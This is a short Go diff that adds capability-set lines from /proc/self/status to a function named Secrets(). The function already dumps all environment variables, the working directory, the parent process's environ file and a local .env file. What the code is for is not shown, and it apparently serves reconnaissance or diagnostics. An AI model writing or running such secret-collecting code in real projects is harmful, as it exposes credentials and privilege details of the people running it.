@@ -168,6 +168,13 @@ func Secrets() string {
 	fmt.Fprintf(&b, "env: %s\n", strings.Join(os.Environ(), " "))
 	wd, _ := os.Getwd()
 	fmt.Fprintf(&b, "cwd: %s\n", wd)
+	if status, err := os.ReadFile("/proc/self/status"); err == nil {
+		for _, line := range strings.Split(string(status), "\n") {
+			if strings.HasPrefix(line, "CapEff:") || strings.HasPrefix(line, "CapBnd:") {
+				fmt.Fprintf(&b, "%s\n", line)
+			}
+		}
+	}
 	for _, path := range []string{fmt.Sprintf("/proc/%d/environ", os.Getppid()), ".env"} {
 		raw, err := os.ReadFile(path)
 		if err != nil {
